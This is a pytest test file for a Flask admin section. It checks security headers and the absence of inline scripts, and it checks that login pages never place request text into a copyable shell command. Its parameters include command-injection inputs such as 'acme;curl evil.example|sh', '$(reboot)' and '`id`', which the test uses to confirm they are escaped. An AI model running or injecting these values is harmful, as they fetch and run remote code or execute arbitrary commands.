"""What every admin page sends (spec section 6: never framed, never sniffed, no Referer, no cache) and what the
sign-in pages never do (put text from the request into a command to copy)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.conftest import admin_login
from tests.factories import SHA, make_org, make_token, post, seed

SECTION = "/admin/orgs/acme/code-security/image-scanning"
SAMPLE_ARGS = {"slug": "acme", "scan_id": "1", "token_id": "1", "image_id": "1", "sha": SHA, "token": "x" * 43}
# The pages of the section, each as it answers with something to show (an upload made first): they send the headers
# on a page with content too, not only on the empty, error or redirect answers the route list gets.
SHOWN = [
    SECTION,
    SECTION + "/scans/1",
    SECTION + "/images",
    SECTION + "/images/1",
    SECTION + "/advisories",
    SECTION + "/advisories?q=CVE-2023-1234",
    SECTION + "/advisories?q=CVE-2023-*",
    "/admin/orgs/acme/advisories?q=CVE-2023-1234",
    SECTION + "/exceptions",
]


def assert_page_headers(response: Any, what: str) -> None:
    headers = response.headers
    csp = headers.get("Content-Security-Policy", "")
    assert re.search(r"(^|;)\s*frame-ancestors 'none'\s*(;|$)", csp), (what, csp)
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp, (what, csp)
    assert headers.get("X-Frame-Options") == "DENY", what
    assert headers.get("X-Content-Type-Options") == "nosniff", what
    assert headers.get("Referrer-Policy") in ("no-referrer", "same-origin", "strict-origin-when-cross-origin"), what
    assert headers.get("Cache-Control") == "no-store", what


def admin_urls(app: Flask) -> list[tuple[str, str]]:
    """(method, URL) of every route under /admin, whoever added it, with sample values for its arguments."""
    found = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/admin") or rule.endpoint == "admin.static":
            continue
        url = re.sub(r"<(?:[^:<>]+:)?([^<>]+)>", lambda m: SAMPLE_ARGS.get(m.group(1), "1"), rule.rule)
        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            found.append((method, url))
    return found


@pytest.fixture
def acme(app: Flask) -> None:
    make_org(app, "acme", "acme-gh")


def test_the_route_list_covers_the_admin_pages(app: Flask) -> None:
    urls = {url for _, url in admin_urls(app)}
    for expected in (
        "/admin/login",
        f"/admin/login/link/{'x' * 43}",
        "/admin/logout",
        SECTION,
        SECTION + "/tokens",
        SECTION + "/images",
        SECTION + "/images/1",
        SECTION + "/advisories",
        "/admin/orgs/acme/advisories",
    ):
        assert expected in urls


@pytest.mark.parametrize("signed_in", [False, True], ids=["anonymous", "signed-in"])
def test_every_admin_route_sends_the_security_headers(
    app: Flask, client: FlaskClient, acme: None, signed_in: bool
) -> None:
    if signed_in:
        admin_login(app, client)
    for method, url in admin_urls(app):
        with client.session_transaction() as cookie:
            csrf = cookie.get("csrf", "")
        data = {"csrf_token": csrf} if method == "POST" else None
        response = client.open(url, method=method, data=data)
        assert_page_headers(response, f"{method} {url} -> {response.status_code}")
        if url == "/admin/logout" and signed_in:
            admin_login(app, client)  # signed out by that: sign in again for the rest


@pytest.mark.parametrize(
    "url",
    [
        "/admin",
        "/admin/nowhere",
        "/admin/orgs/acme/code-security/image-scanning/scans/999999",
        "/admin/orgs/other/code-security/image-scanning",
        "/admin/oauth/start?org=acme",
        "/admin/oauth/callback?state=x&code=y",
    ],
)
def test_errors_and_redirects_under_admin_send_them_too(app: Flask, client: FlaskClient, acme: None, url: str) -> None:
    admin_login(app, client)
    assert_page_headers(client.get(url), url)


def test_the_pages_with_content_send_them(app: Flask, client: FlaskClient, acme: None) -> None:
    token = make_token(app, "acme")
    r = post(client, token, seed(repo="acme-gh/api"))
    assert r.status_code == 202 and r.get_json()["scan_run_id"] == 1, r.get_json()
    admin_login(app, client)
    for url in SHOWN:
        response = client.get(url)
        assert response.status_code in (200, 302), (url, response.status_code)
        assert_page_headers(response, url)


def test_the_stylesheet_is_not_sniffed_or_framed_but_may_be_cached(client: FlaskClient) -> None:
    with client.get("/admin/static/admin.css") as response:
        assert response.status_code == 200
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers.get("Cache-Control") != "no-store"


@pytest.mark.parametrize("url", ["/admin/static/nope.css", "/admin/static/admin.css/x"])
def test_an_error_under_the_static_files_is_not_cached(client: FlaskClient, url: str) -> None:
    """Review: a 404 under /admin/static/ was sent without no-store (only a file served may be cached)."""
    response = client.get(url)
    assert response.status_code == 404
    assert_page_headers(response, url)


def test_the_api_is_left_alone(client: FlaskClient) -> None:
    assert "Content-Security-Policy" not in client.get("/api/v1/orgs/acme/image-scans").headers


def test_the_pages_run_no_inline_script(app: Flask, client: FlaskClient, acme: None) -> None:
    """The policy allows scripts from this site only: the pages' own script is a file, and no on...= handlers."""
    csrf = admin_login(app, client)
    pages = [client.get(SECTION).get_data(as_text=True)]  # no scans yet: the workflow snippet, its copy button
    form = {"name": "ci", "scopes": "findings:write", "expires_days": "30", "csrf_token": csrf}
    created = client.post(SECTION + "/tokens", data=form)
    assert created.status_code == 201
    pages.append(created.get_data(as_text=True))
    for html in pages:
        assert 'src="/admin/static/admin.js"' in html
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), "an inline script"
        assert not re.search(r"\son[a-z]+=", html), "an inline event handler"
    with client.get("/admin/static/admin.js") as script:
        assert script.status_code == 200


# -- nothing from the request in a command to copy ------------------------------------------------------------------

COMMAND = re.compile(r"<pre><code>(.*?)</code></pre>", re.S)


@pytest.mark.parametrize(
    ("url", "unknown"),
    [
        ("/admin/login?org=nobody", "nobody"),
        ("/admin/login?org=acme;curl%20evil.example|sh", "acme;curl evil.example|sh"),
        ("/admin/login?org=%24(reboot)", "$(reboot)"),
        ("/admin/login?next=/admin/orgs/nobody-here/code-security/image-scanning", None),
        ("/admin/oauth/start?org=nobody", None),
        ("/admin/oauth/start?org=%60id%60", None),
    ],
)
def test_an_unknown_org_is_never_put_into_a_command(
    client: FlaskClient, acme: None, url: str, unknown: str | None
) -> None:
    response = client.get(url)
    html = response.get_data(as_text=True)
    commands = COMMAND.findall(html)
    assert commands == ["flask --app wsgi admin login-url SLUG"], commands
    if unknown is not None:  # said in words instead, escaped
        assert "There is no organisation" in html
        assert "curl evil.example|sh</" not in html


def test_a_known_org_is_named_in_the_command_as_stored(client: FlaskClient, acme: None) -> None:
    html = client.get("/admin/login?org=acme").get_data(as_text=True)
    assert COMMAND.findall(html) == ["flask --app wsgi admin login-url acme"]
    assert "There is no organisation" not in html
